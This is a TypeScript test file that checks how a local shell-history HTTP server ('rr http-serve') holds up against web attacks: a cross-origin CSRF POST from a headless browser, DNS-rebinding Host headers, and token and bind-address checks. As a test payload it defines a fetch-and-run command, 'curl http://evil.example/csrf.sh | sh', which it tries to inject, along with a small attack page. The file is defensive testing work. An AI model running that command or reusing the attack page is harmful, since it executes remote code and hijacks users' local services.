/**
 * Attacks on `rr http-serve` from the web: a page on another origin POSTs `text/plain` (no preflight) in a real
 * headless Chromium; a DNS-rebinding page's foreign Host header; and a non-loopback bind that must warn.
 */
import { createServer, request } from 'node:http'
import { join } from 'node:path'
import test from 'ava'
import { chromium } from 'playwright-core'
import { isolatedEnv, rr, rrSpawn, stop } from '../helpers/cli.js'
import { tempDir } from '../helpers/tmp.js'
import { entryIds, makeEntry, seedDb } from '../http/fixtures.js'

declare const document: { title: string }

const evilCmd = 'curl http://evil.example/csrf.sh | sh'

async function serve (t: Parameters<typeof tempDir>[0], bind = '127.0.0.1:0'): Promise<{ url: string, dbPath: string, output: () => string }> {
  const home = tempDir(t)
  const dbPath = join(home, 'served.db')
  seedDb(dbPath, [makeEntry(1)])
  const { child, match, output } = await rrSpawn(['--db-path', dbPath, 'http-serve', '--bind', bind], { env: isolatedEnv(home, { RUSTORY_HTTP_TOKEN: 'local-secret-0123456' }), ready: /http listen: (http:\/\/[\d.]+:\d+)\n/ })
  t.teardown(async () => { await stop(child) })
  return { url: match[1]!, dbPath, output }
}

async function raw (url: string, headers: Record<string, string>, method = 'GET', body?: string): Promise<{ status: number, body: string }> {
  const { hostname, port } = new URL(url)
  return await new Promise((resolve, reject) => {
    const req = request({ host: hostname, port, method, path: '/api/v1/entries?cursor=0&limit=10', headers, setHost: false }, (res) => {
      let text = ''
      res.on('data', (d: Buffer) => { text += d.toString() })
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text }))
    })
    req.on('error', reject)
    req.end(body)
  })
}

test('a text/plain POST from a page on another origin, in headless Chromium, inserts nothing', async (t) => {
  const { url, dbPath, output } = await serve(t)
  const before = entryIds(dbPath)
  const entry = makeEntry(2, { cmd: evilCmd, ts: '9999-01-01T00:00:00.000Z' })
  const evil = createServer((_req, res) => {
    res.writeHead(200, { 'content-type': 'text/html' })
    res.end(`<!doctype html><script>
      fetch(${JSON.stringify(`${url}/api/v1/entries`)}, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: ${JSON.stringify(JSON.stringify({ entries: [entry] }))} })
        .then(() => { document.title = 'sent' }, (e) => { document.title = 'error ' + e })
    </script>`)
  })
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
  t.teardown(() => { evil.close() })
  const evilPort = (evil.address() as { port: number }).port
  const browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox', '--disable-background-networking', '--disable-gpu', '--disable-dev-shm-usage'] })
  t.teardown(async () => { await browser.close() })
  const page = await browser.newPage()
  await page.goto(`http://localhost:${evilPort}/`)
  await page.waitForFunction(() => document.title !== '', undefined, { timeout: 60_000 })
  t.is(await page.title(), 'sent', 'the browser sent the request')
  const deadline = Date.now() + 30_000
  while (!/http refused POST/.test(output()) && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 100))
  t.regex(output(), /http refused POST \/api\/v1\/entries from [\d.:]+: requests from another origin \(http:\/\/localhost:\d+\) are refused/)
  t.deepEqual(entryIds(dbPath), before, 'nothing was inserted')
})

test('a foreign Host header, a missing token and a non-JSON body are refused; the right request is served', async (t) => {
  const { url, dbPath } = await serve(t)
  const { host } = new URL(url)
  const auth = { authorization: 'Bearer local-secret-0123456' }
  const rebound = await raw(url, { host: 'attacker.example', ...auth })
  t.is(rebound.status, 403)
  t.regex(rebound.body, /Host \\"attacker\.example\\" is not this machine/)
  t.is((await raw(url, { host })).status, 401)
  t.is((await raw(url, { host, authorization: 'Bearer wrong' })).status, 401)
  const pushed = makeEntry(3, { cmd: evilCmd })
  const plain = await raw(url, { host, ...auth, 'content-type': 'text/plain' }, 'POST', JSON.stringify({ entries: [pushed] }))
  t.is(plain.status, 415)
  t.false(entryIds(dbPath).includes(pushed.entry_id))
  const ok = await raw(url, { host, 'x-rustory-token': 'local-secret-0123456' })
  t.is(ok.status, 200)
  t.is((JSON.parse(ok.body) as { entries: unknown[] }).entries.length, 1)
  t.is((await raw(url, { host: `localhost:${new URL(url).port}`, ...auth })).status, 200)
  // An IP literal that is not this machine's is no way to reach it: refused like a DNS name.
  const elsewhere = await raw(url, { host: `8.8.8.8:${new URL(url).port}`, ...auth })
  t.is(elsewhere.status, 403)
  t.regex(elsewhere.body, /Host \\"8\.8\.8\.8:\d+\\" is not this machine/)
  t.is((await raw(url, { host: `[::ffff:127.0.0.1]:${new URL(url).port}`, ...auth })).status, 200)
  // What a browser says of another site's page (Fetch Metadata), even with the token.
  const crossSite = await raw(url, { host, ...auth, 'sec-fetch-site': 'cross-site' })
  t.is(crossSite.status, 403)
  t.regex(crossSite.body, /another site/)
  t.is((await raw(url, { host, ...auth, 'sec-fetch-site': 'same-origin' })).status, 200)
})

test('binding to a non-loopback address warns loudly', async (t) => {
  const { output } = await serve(t, '0.0.0.0:0')
  t.regex(output(), /WARNING: http-serve is bound to 0\.0\.0\.0, reachable from other machines/)
})

test('a configured token with spaces around it is refused at start, naming the fix; a short one gets a warning', async (t) => {
  const home = tempDir(t)
  const dbPath = join(home, 'served.db')
  seedDb(dbPath, [makeEntry(1)])
  const padded = await rr(['--db-path', dbPath, 'http-serve', '--bind', '127.0.0.1:0'], { env: isolatedEnv(home, { RUSTORY_HTTP_TOKEN: ' padded-token-0123456 ' }) })
  t.is(padded.code, 2)
  t.regex(padded.stderr, /^rr: http_token \(config\.toml or RUSTORY_HTTP_TOKEN\) has spaces or line breaks around it, so no client could send it: remove them\n$/)
  const { child, output } = await rrSpawn(['--db-path', dbPath, 'http-serve', '--bind', '127.0.0.1:0'], { env: isolatedEnv(home, { RUSTORY_HTTP_TOKEN: 'abc' }), ready: /http listen: / })
  t.teardown(async () => { await stop(child) })
  t.regex(output(), /WARNING: http_token is 3 characters long: anyone who can reach the port may guess it/)
})
